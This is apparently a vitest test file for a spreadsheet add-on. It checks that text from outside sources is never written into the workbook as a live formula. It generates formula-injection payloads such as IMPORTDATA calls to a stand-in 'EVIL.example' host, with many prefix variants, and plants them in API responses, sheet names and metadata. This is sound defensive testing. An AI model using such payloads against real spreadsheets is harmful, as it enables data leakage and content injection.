// Others write captions, names and problem details. Wherever one of these lands in the spreadsheet, it lands as text.
import { describe, expect, it } from 'vitest';
import type { CellValue } from '../../playground/workbook/workbook.ts';
import { code } from '../bundle/built.ts';
import { RecordedUi } from '../playground/services/recorded-ui.ts';
import { hourly } from '../support/scheduled.ts';
import { newLinks, openCampaign } from '../support/sidebar.ts';
import { foreignWords, rewriting } from './rewriting.ts';

const mark = 'EVIL';
const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', "'=", '＝', '\u200b=', '=+', '"=', '<b>'];
const evil = (index: number) => `${starts[index % starts.length]}IMPORTDATA("https://${mark}.example/")`;
const poisonedFields =
  /^(description|account_username|media_type|api_key_name|title|detail|field|message|cover_image_url|video_url|platform_account_id|filters)$/;

/** Every text of an answer that others write, or that is shown as it came. */
function poison(value: unknown, count: { texts: number }): unknown {
  if (Array.isArray(value)) return value.map((each) => poison(each, count));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) => {
      if (!poisonedFields.test(name))
        return [name, name === 'metadata' ? { [evil(3)]: evil(count.texts) } : poison(each, count)];
      count.texts += 1;
      return [name, evil(count.texts)];
    }),
  );
}

describe('the writers of the built script', () => {
  it('are the ones the run below goes through: a new one needs a look here', () => {
    const members = [
      ...code.matchAll(
        /\.(set(?:Values?|Formulas?\w*|Notes?|RichText\w*|NamedRange|Name)|appendRow|copyTo|insertSheet)\(/g,
      ),
    ];
    const names = [...new Set(members.map(([, name]) => name))].sort();
    expect(names).toEqual(['insertSheet', 'setNamedRange', 'setNote', 'setValues']);
  });
});

describe('text of others', () => {
  it('is a formula nowhere, on any way into the spreadsheet', async () => {
    const count = { texts: 0 };
    const rewrite = rewriting((_request, { body, headers }) => {
      const text = Buffer.from(body).toString();
      if (!text.startsWith('{')) return { headers };
      return { body: Buffer.from(JSON.stringify(poison(JSON.parse(text), count))) };
    });
    const ui = new RecordedUi();
    const options = { posts: 30, ui, watchNetwork: rewrite, switches: { createFailures: 'tenth' } as const };
    const campaign = await openCampaign([], options);
    const { session, sandbox, sheetId, call, ask } = campaign;
    const { workbook, host } = session;
    const known = campaign.posts.slice(0, 14).map(({ url }) => [url]);
    campaign.fill([["'=Link"], ...newLinks(24), ...known, ['\'=HYPERLINK("x")'], ["'@someone"]]);
    const name = `='x'!A1+"&`;
    workbook.renameSheet(campaign.sheet, name);

    await ask('sidebarConnect', { apiKey: sandbox.keys.full, place: 'spreadsheet' });
    const columns = ['status', 'views', 'likes', 'collected', 'creator', 'caption'];
    await campaign.drive(await campaign.track({ columns, metadata: { '=a': '=b' } }));
    await call('sidebarUpdate', { sheetId, linkColumn: 1, columns });
    await call('sidebarSetSchedule', { ...hourly, keepsHistory: true, ownerName: evil(0) });
    await host.advance(3 * 3_600_000);
    await ask('sidebarRefresh');
    await ask('sidebarReport', { sheetId });
    const extra = workbook.addSheet('Formulas').name;
    const written = [
      [`=CA_VIDEO("${known[0]?.[0]}", "caption, creator, metadata, media_type, cover_image_url")`],
      [`=CA_STATUS("${known[1]?.[0]}")`],
      [`=CA_VIDEO("${evil(0).replaceAll('"', '')}", "views")`],
    ];
    await session.enter(extra, 1, 1, written);
    const activeRange = { sheet: extra, row: 9, column: 1, rows: 1, columns: 1 };
    const inserted = await host.callFromPage('sidebarInsertFormula', [{ name: 'CA_VIDEO', fields: ['view_count'] }], {
      activeRange,
    });
    expect(inserted.ok).toBe(true);

    const held = workbook.sheets().map((each) => {
      const area = {
        sheet: each.name,
        row: 1,
        column: 1,
        rows: Math.max(1, each.lastRow),
        columns: Math.max(1, each.lastColumn),
      };
      return {
        name: each.name,
        formulas: workbook.formulas(area).flat().filter(Boolean),
        values: workbook.values(area).flat(),
      };
    });
    const own = new Set(written.flat());
    const foreign = held
      .flatMap(({ formulas }) => formulas)
      .filter((each) => !own.has(each) && !/^=(VSTACK\(HSTACK\(|CA_)/.test(each));
    expect(foreign).toEqual([]);
    expect(held.flatMap(({ values }) => values.filter((value) => foreignWords.test(String(value))))).toEqual([]);

    // The run is worth something only where such texts have arrived, and every writer was at work.
    expect(count.texts).toBeGreaterThan(50);
    const reached = held.filter(({ values }) => values.some((value: CellValue) => String(value).includes(mark)));
    expect(reached.map((each) => each.name)).toEqual(expect.arrayContaining([name, extra]));
    const used = new Set(host.executions.flatMap(({ callsByMember }) => Object.keys(callsByMember)));
    for (const member of ['Range.setValues', 'Range.setNote', 'Spreadsheet.setNamedRange', 'Spreadsheet.insertSheet']) {
      expect([...used]).toContain(member);
    }
    // What a formula gives back is read as typed once it is pasted as a value: the apostrophe keeps it text.
    const result = workbook.result({ sheet: extra, row: 1, column: 1 });
    const texts = (Array.isArray(result) ? result.flat() : [result]).filter((each) => String(each).includes(mark));
    expect(texts.length).toBeGreaterThan(0);
    for (const each of texts) expect(String(each)).not.toMatch(/^[\s\u200b]*[=+\-@＝]/);
  });
});
